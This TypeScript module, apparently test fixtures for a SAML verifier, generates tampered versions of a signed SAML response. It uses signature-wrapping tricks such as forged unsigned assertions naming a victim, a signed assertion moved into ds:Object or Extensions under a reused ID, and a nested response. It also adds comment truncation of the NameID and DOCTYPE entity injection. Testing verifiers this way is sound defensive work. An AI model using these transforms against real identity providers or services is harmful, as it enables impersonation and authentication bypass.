/** What somebody in the middle does to a signed answer; each takes its XML and makes another. */

const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s;
const SIGNATURE = /<ds:Signature.*?<\/ds:Signature>/s;
const NAME_ID = /(<saml:NameID[^>]*>)[^<]*/;

function assertionOf(xml: string): string {
  const found = ASSERTION.exec(xml)?.[0];
  if (!found) throw new Error("no assertion");
  return found;
}

/** The assertion with somebody else's name in it and no signature. */
function evil(xml: string, victim: string, id = "_evil"): string {
  return assertionOf(xml)
    .replace(SIGNATURE, "")
    .replace(NAME_ID, `$1${victim}`)
    .replace(/ ID="[^"]+"/, ` ID="${id}"`);
}

export const attacks = (victim: string): Record<string, (xml: string) => string> => ({
  "another name id under the signature": (xml) => xml.replace(NAME_ID, `$1${victim}`),
  "a second assertion before the signed one": (xml) => xml.replace(ASSERTION, (signed) => evil(xml, victim) + signed),
  "a second assertion behind the signed one": (xml) => xml.replace(ASSERTION, (signed) => signed + evil(xml, victim)),
  "the signed assertion inside another one": (xml) =>
    xml.replace(ASSERTION, (signed) => evil(xml, victim).replace("</saml:Assertion>", `${signed}</saml:Assertion>`)),
  "the signed assertion inside the signature of another one": (xml) => {
    const signature = SIGNATURE.exec(xml)![0];
    const bare = assertionOf(xml).replace(SIGNATURE, "");
    const holding = signature.replace("</ds:Signature>", `<ds:Object>${bare}</ds:Object></ds:Signature>`);
    return xml.replace(ASSERTION, () => evil(xml, victim).replace("</saml:Issuer>", `</saml:Issuer>${holding}`));
  },
  "the signed assertion in an extension, another of the same id in its place": (xml) => {
    const signed = assertionOf(xml);
    const id = / ID="([^"]+)"/.exec(signed)![1]!;
    const extension = `<samlp:Extensions>${signed}</samlp:Extensions>`;
    return xml
      .replace(ASSERTION, () => evil(xml, victim, id))
      .replace("<samlp:Status>", () => `${extension}<samlp:Status>`);
  },
  "the signed answer inside another answer": (xml) =>
    xml.replace("</samlp:Response>", () => `<samlp:Extensions>${xml}</samlp:Extensions></samlp:Response>`),
  "two signatures": (xml) => xml.replace(SIGNATURE, (signature) => signature + signature),
  "a comment that cuts the name id": (xml) =>
    xml.replace(NAME_ID, (whole) => `${whole.slice(0, -4)}<!---->${whole.slice(-4)}`),
});

export const documents: Record<string, (xml: string) => string> = {
  "a document type": (xml) => `<!DOCTYPE Response [<!ENTITY who "admin">]>${xml}`,
  "an entity of its own": (xml) => xml.replace(NAME_ID, "$1&who;"),
  "a processing instruction": (xml) => xml.replace(NAME_ID, (whole) => `${whole}<?cut?>`),
  "no XML": () => "hello",
  "another document": () => "<html/>",
};
